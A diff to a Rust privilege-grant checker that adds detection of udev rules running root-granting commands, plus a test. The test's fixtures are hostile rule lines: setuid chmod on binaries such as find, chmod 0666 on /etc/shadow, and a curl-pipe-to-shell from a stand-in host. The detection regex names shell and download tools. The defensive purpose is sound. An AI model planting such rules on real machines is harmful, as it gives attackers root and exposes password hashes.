@@ -512,6 +512,9 @@ fn staged_grant(path: &Path, content: &Path) -> Option<String> {
         Staged::Polkit
     } else if is_container_definition(name) {
         Staged::Container
+    } else if name.ends_with(".rules") && !c.iter().any(|x| x == "polkit-1") {
+        // A udev rule, by its name and, below, by its keys (`SUBSYSTEM==`, `RUN+=`).
+        Staged::Udev
     } else {
         return None;
     };
@@ -526,6 +529,7 @@ fn staged_grant(path: &Path, content: &Path) -> Option<String> {
         Staged::Groups => group_grants(&text),
         Staged::Doas => doas_grants(&text),
         Staged::Polkit => polkit_grants(&text),
+        Staged::Udev => udev_grants(&text),
         Staged::Container => {
             // Only what the change adds: a definition that already ran privileged is the
             // user's own choice.
@@ -542,6 +546,8 @@ fn staged_grant(path: &Path, content: &Path) -> Option<String> {
 }
 
 enum Staged {
+    /// A udev rule: what it runs, it runs as root whenever a matching device appears.
+    Udev,
     Sudoers,
     Accounts,
     Groups,
@@ -794,6 +800,43 @@ fn doas_grants(text: &str) -> Vec<String> {
         };
         if let Some(what) = open_command(&entry, &HashMap::new(), 0) {
             out.push(format!("{who} may run {what} as root without a password"));
+        }
+    }
+    out
+}
+
+/// What a udev rule runs as root when a device appears that gives root to someone: a `RUN` or
+/// `PROGRAM` that sets the set-uid or set-gid bit (`chmod 4755`, `chmod u+s`), makes a file
+/// writable by everyone, hands a file to another owner, or runs a shell or a download. Only for
+/// a file that reads as udev rules (a line with `==` and `KERNEL`, `SUBSYSTEM`, `ATTR`,
+/// `ACTION` or `ENV`); the device access a rule sets (`MODE="0660", GROUP="plugdev"`) is no such
+/// grant.
+fn udev_grants(text: &str) -> Vec<String> {
+    let is_udev = text.lines().any(|l| {
+        l.contains("==")
+            && ["KERNEL", "SUBSYSTEM", "ATTR", "ACTION", "ENV", "DRIVER"].iter().any(|k| l.contains(k))
+    });
+    if !is_udev {
+        return Vec::new();
+    }
+    static RUN: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
+    let run =
+        RUN.get_or_init(|| regex::Regex::new(r#"\b(?:RUN|PROGRAM)\s*\+?=\s*"([^"]*)""#).expect("compiles"));
+    static SETID: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
+    let setid = SETID.get_or_init(|| {
+        regex::Regex::new(r"\bchmod\s+(?:-\S+\s+)*(?:[0-7]?[2-7][0-7]{3}\b|[0-7]?[0-7]{2}[2367]\b|[ugoa]*\+[rwxXt]*s|[oa]*\+[rwxXt]*w)|\bchown\b|\b(?:sh|bash|dash|zsh)\s+-c\b|\b(?:curl|wget)\b")
+            .expect("compiles")
+    });
+    let mut out: Vec<String> = Vec::new();
+    for l in text.lines().map(str::trim).filter(|l| !l.starts_with('#')) {
+        for c in run.captures_iter(l) {
+            let cmd = c[1].trim();
+            if setid.is_match(cmd) && out.len() < 2 {
+                out.push(format!(
+                    "a udev rule runs `{}` as root whenever the device appears",
+                    cmd.chars().take(80).collect::<String>()
+                ));
+            }
         }
     }
     out
@@ -1162,6 +1205,27 @@ mod tests {
         ] {
             assert_eq!(judge(rule), None, "{rule:?}");
         }
+    }
+
+    #[test]
+    fn a_staged_udev_rule_that_runs_a_grant_as_root_is_one_and_device_access_is_not() {
+        let access = "SUBSYSTEM==\"usb\", ATTRS{idVendor}==\"0483\", MODE=\"0660\", GROUP=\"plugdev\"\n";
+        assert!(super::udev_grants(access).is_empty());
+        for run in [
+            "RUN+=\"/bin/chmod 4755 /usr/local/bin/probe-helper\"",
+            "RUN+=\"/bin/chmod u+s /usr/bin/find\"",
+            "RUN+=\"/bin/sh -c 'curl -s http://x.test/p | sh'\"",
+            "RUN+=\"/bin/chmod 0666 /etc/shadow\"",
+        ] {
+            let text = format!("{}{run}\n", access.trim_end().to_string() + ", ");
+            assert_eq!(super::udev_grants(&text).len(), 1, "{run}");
+        }
+        // A plain program it runs, or a file that is no udev rule at all.
+        assert!(
+            super::udev_grants(&format!("{}, RUN+=\"/usr/bin/logger probe\"\n", access.trim_end()))
+                .is_empty()
+        );
+        assert!(super::udev_grants("RUN+=\"/bin/chmod 4755 x\"\n").is_empty());
     }
 
     #[test]
